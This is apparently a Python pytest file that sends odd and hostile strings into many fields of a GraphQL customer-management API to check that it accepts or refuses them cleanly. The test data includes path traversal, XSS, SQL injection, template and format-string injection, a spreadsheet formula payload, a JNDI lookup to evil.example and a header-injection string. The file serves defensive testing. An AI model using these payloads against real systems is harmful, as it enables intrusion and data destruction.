"""Names of all that has one: paths, controls, letters that turn the line around, markup, statements (S8, S16)."""

import json
from collections.abc import Mapping

import pytest

from tests.hostile.doors import Answer, Json
from tests.hostile.target import Target

STRANGE: dict[str, str] = {
    "a path": "../../../../etc/passwd",
    "a path of Windows": "..\\..\\windows\\system32",
    "a device": "con.txt",
    "nothing": "",
    "a space": " ",
    "a space of no width": "\u200b",
    "a NUL": "a\0b",
    "controls": "\x01\x02\x1b[31m\x7f\x9f",
    "line ends": "a\r\nb\u2028c\u2029d\x85e",
    "letters turned around": "\u202egpj.exe\u2066\u2069",
    "letters that look alike": "\u0430dmin",
    "marks upon marks": "e" + "\u0301" * 2_000,
    "letters that grow": "\ufdfa" * 50 + "\u00df\u0130\ufb03",
    "a flag and a family": "\U0001f1f9\U0001f1fc \U0001f468\u200d\U0001f469\u200d\U0001f467",
    "no character": "\ufffe\uffff\U0010ffff",
    "for private use": "\ue000\U000f0000",
    "markup": "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "a statement": "x'); DROP TABLE customers;--",
    "a pattern": "%_\\%*?[a-z]{9}(a+)+$",
    "a template": "{{ 7*7 }}{% for a in a %}${7*7}<%= 7*7 %>",
    "a format": "%s%n%x{0.__class__}",
    "a formula": "=cmd|'/c calc'!A0",
    "a lookup": "${jndi:ldap://evil.example/a}",
    "a word of a language": "__proto__",
    "a class": "__class__.__init__.__globals__",
    "nobody": "null",
    "no number": "NaN",
    "digits": "9" * 400,
    "digits of another script": "\u0661\u0662\u0663",
    "a header": "x\r\nSet-Cookie: a=b",
    "very long": "x" * 100_000,
    "very long, of four bytes each": "\U0001f600" * 25_000,
}
ERRORS = "userErrors { field code }"
OK = {"INVALID", "REQUIRED", "NOT_FOUND", "TAKEN", "LIMIT_EXCEEDED", "INVALID_STATE", "CHANNEL_UNAVAILABLE", "IN_USE",
      "ALREADY_REFRESHED_TODAY", "NO_RECIPIENTS", "IDEMPOTENCY_CONFLICT", "BAD_USER_INPUT", "BAD_REQUEST"}  # fmt: skip


def mutation(declared: str, field: str) -> str:
    return f"mutation ({declared}) {{ {field} {{ {ERRORS} }} }}"


def customer(**values: str) -> str:
    fields = ", ".join(f"{name}: {value}" for name, value in values.items())
    return mutation("$v: String!", f'customerUpsert(input: {{externalId: "strange", {fields}}})')


# Where a name goes: documents with `$v`; IDs of ours stand as `%segment` and the like.
PLACES: dict[str, str] = {
    "store": mutation("$v: String!", "storeUpdate(input: {name: $v})"),
    "time zone": mutation("$v: String!", "storeUpdate(input: {timezone: $v})"),
    "currency": mutation("$v: String!", "storeUpdate(input: {currency: $v})"),
    "segment": mutation("$v: String!", 'segmentUpdate(id: "%segment", input: {name: $v})'),
    "segment's description": mutation("$v: String!", 'segmentUpdate(id: "%segment", input: {description: $v})'),
    "copy of a segment": mutation("$v: String!", 'segmentDuplicate(id: "%segment", name: $v)'),
    "list": mutation("$v: String!", 'listRename(id: "%list", name: $v)'),
    "campaign": mutation("$v: String!", 'campaignUpdate(id: "%campaign", input: {name: $v})'),
    "campaign's source": mutation("$v: String!", 'campaignUpdate(id: "%campaign", input: {utm: {source: $v, medium: $v}})'),
    "campaign's channel": mutation("$v: String!", 'campaignCreate(input: {name: "x", channel: $v, target: {listId: "%list"}})'),
    "idempotency key": mutation("$v: String!", 'campaignSend(id: "x", idempotencyKey: $v)'),
    "channel": mutation("$v: String!", "channelInstall(key: $v)"),
    "channel to configure": mutation("$v: String!", "channelConfigure(key: $v, settings: {})"),
    "channel to test": mutation("$v: String!", "channelTest(key: $v)"),
    "channel to connect": mutation("$v: String!", 'channelConnect(key: $v, returnUrl: "http://127.0.0.1:8000/")'),
    "page to return to": mutation("$v: String!", 'channelConnect(key: "email", returnUrl: $v)'),
    "channel to synchronise": mutation("$v: String!", "channelSync(key: $v)"),
    "consent's channel": mutation("$v: String!", 'consentUpdate(customerId: "%customer", channel: $v, consent: UNSUBSCRIBED)'),
    "consent's source": mutation("$v: String!", 'consentUpdate(customerId: "%customer", channel: "email", consent: SUBSCRIBED, source: $v)'),
    "tag": mutation("$v: String!", 'customerTagsAdd(id: "%customer", tags: [$v])'),
    "tag's source": mutation("$v: String!", 'customerTagsAdd(id: "%customer", tags: ["x"], source: $v)'),
    "tag to take off": mutation("$v: String!", 'customerTagsRemove(id: "%customer", tags: [$v])'),
    "reason": mutation("$v: String!", 'customerBlacklist(id: "%customer", blacklisted: false, reason: $v)'),
    "property": mutation("$v: String!", 'propertyDefinitionCreate(key: $v, label: "x", type: STRING)'),
    "property's label": mutation("$v: String!", 'propertyDefinitionCreate(key: "strange", label: $v, type: STRING)'),
    "property to delete": mutation("$v: String!", "propertyDefinitionDelete(key: $v)"),
    "ranked dimension": mutation("$v: String!", 'valueRanksSet(dimension: $v, values: ["x"])'),
    "ranked value": mutation("$v: String!", 'valueRanksSet(dimension: "tier", values: [$v])'),
    "event": mutation("$v: String!", 'eventsTrack(events: [{id: $v, type: "visit", occurredAt: "2026-01-01T00:00:00Z", customer: {externalId: "x"}}])'),
    "event's type": mutation("$v: String!", 'eventsTrack(events: [{id: "x", type: $v, occurredAt: "2026-01-01T00:00:00Z", customer: {externalId: "x"}}])'),
    "event's customer": mutation("$v: String!", 'eventsTrack(events: [{id: "y", type: "visit", occurredAt: "2026-01-01T00:00:00Z", customer: {externalId: $v}}])'),
    "customer's ID": mutation("$v: String!", 'customerUpsert(input: {externalId: $v, name: "x"})'),
    **{
        f"customer's {name}": customer(**{name: "$v"})
        for name in ("name", "firstName", "company", "email", "phone", "locale", "country", "city", "source", "note",
                     "tier", "loyaltyRank", "preferredChannel", "registeredFrom", "registrationForm")
    },
    "contact's channel": customer(contacts='[{channel: $v, address: "x"}]'),
    "contact's address": customer(contacts='[{channel: "line", address: $v}]'),
    "address": customer(addresses='[{city: $v, country: "TW"}]'),
    "property of a customer": customer(properties='[{key: $v, value: "x"}]'),
    "fields to export": mutation("$v: String!", 'listExport(id: "%list", fields: [$v])'),
    "query": "query ($v: String!) { segmentPreview(query: $v) { count } }",
    "search": "query ($v: String!) { customers(search: $v) { totalCount } lists(search: $v) { totalCount } }",
    "tags' prefix": "query ($v: String!) { tags(prefix: $v) }",
    "catalogue's group": "query ($v: String!) { dimensions(group: $v) { key } }",
    "channel to show": "query ($v: String!) { channel(key: $v) { key } }",
    "reach's channel": 'query ($v: String!) { reach(target: {listId: "%list"}, channel: $v) { recipients } }',
    "kinds of events": "query ($v: String!) { customers(first: 1) { nodes { timeline(types: [$v]) { totalCount } } } }",
}  # fmt: skip


def filled(document: str, ids: Mapping[str, str]) -> str:
    for kind, gid in ids.items():
        document = document.replace(f'"%{kind}"', f'"{gid}"')
    return document


@pytest.mark.parametrize("place", PLACES)
def test_a_name_of_any_kind_is_taken_or_refused_with_a_reason(target_server: Target, place: str) -> None:
    ours = target_server.ours
    ids = {"segment": ours.segment, "list": ours.list, "campaign": ours.campaign, "customer": ours.customer}
    document = filled(PLACES[place], ids)
    for kind, text in STRANGE.items():
        answer = target_server.kept(lambda text=text: ours.doors.ask(document, v=text))  # type: ignore[misc]
        assert answer.status in {200, 400}, (kind, answer)
        assert set(answer.codes) <= OK, (kind, answer)
        assert len(answer.body) < 10_000 + 8 * len(text), (kind, answer.body[:2_000])


@pytest.mark.parametrize("place", ["event", "segment", "customer's name", "query"])
def test_half_a_character_is_no_text(target_server: Target, place: str) -> None:
    body = json.dumps({"query": filled(PLACES[place], {}), "variables": {"v": "a\ud800b"}})

    def send() -> Answer:
        return target_server.doors.request("POST", content=body, headers={"Content-Type": "application/json"})

    answer = target_server.kept(send)
    assert (answer.status, answer.codes) == (400, ["BAD_REQUEST"])


ATTRIBUTES: dict[str, Json] = {
    "strange keys": {text: 1 for text in STRANGE.values() if len(text) < 1_000},
    "strange values": {f"k{n}": text for n, text in enumerate(STRANGE.values()) if len(text) < 1_000},
    "numbers": {"a": 2**63, "b": -(2**64), "c": 1e308, "d": -0.0, "e": 10**400},
    "deep": json.loads('{"a":' * 80 + "1" + "}" * 80),
    "an order of all": {"total": "1e400", "items": [{"price": "NaN", "quantity": -1, "tags": ["x"] * 1_000}] * 10},
    "an order of nothing": {"total": None, "items": [None, 1, "x", []]},
}


@pytest.mark.parametrize("type_", ["visit", "order", "points.changed", "email.opened", "strange"])
@pytest.mark.parametrize("name", ATTRIBUTES)
def test_an_events_attributes_may_be_anything(target_server: Target, name: str, type_: str) -> None:
    event = {
        "id": f"{name} {type_}",
        "type": type_,
        "occurredAt": "2026-01-01T00:00:00Z",
        "attributes": ATTRIBUTES[name],
    }
    document = f"mutation ($e: [EventInput!]!) {{ eventsTrack(events: $e) {{ accepted {ERRORS} }} }}"
    events = [event | {"customer": {"externalId": "attributes"}}]
    answer = target_server.kept(lambda: target_server.doors.ask(document, e=events))
    assert answer.status in {200, 400}
    assert set(answer.codes) <= OK, answer
